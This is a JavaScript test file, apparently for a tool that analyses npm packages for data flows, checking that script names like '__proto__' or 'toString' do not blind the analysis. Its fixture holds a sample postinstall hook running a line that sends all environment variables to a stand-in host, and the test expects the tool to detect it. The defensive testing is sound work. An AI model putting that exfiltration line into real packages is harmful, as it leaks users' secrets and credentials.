import assert from 'node:assert/strict';
import { analysePackage } from '../../server/src/artifacts/analysis/analyse.js';
import { withoutEntities } from '../../server/src/artifacts/analysis/markup/tags.js';
import { packageOf } from '../support/artifacts.js';

const STEALS = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;

/** What every object of JavaScript has. */
const INHERITED = ['hasOwnProperty', 'constructor', 'toString', '__proto__', 'valueOf'];

describe('a name that every object has', () => {
  for (const name of INHERITED) {
    it(`does not blind the analysis where a command runs a script called ${name}`, () => {
      const scripts = { postinstall: `npm run ${name} && npm ${name}; node steal.js` };
      const { flows, incomplete } = analysePackage(
        packageOf({ 'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts }), 'steal.js': STEALS }),
      );
      assert.deepEqual(incomplete, []);
      assert.deepEqual([...new Set(flows.map(({ source, sink }) => `${source}>${sink}`))], ['environment>network']);
    });
  }

  it('is no character of HTML', () => assert.equal(withoutEntities('&valueOf;&toString;&lt;'), '&valueOf;&toString;<'));
});
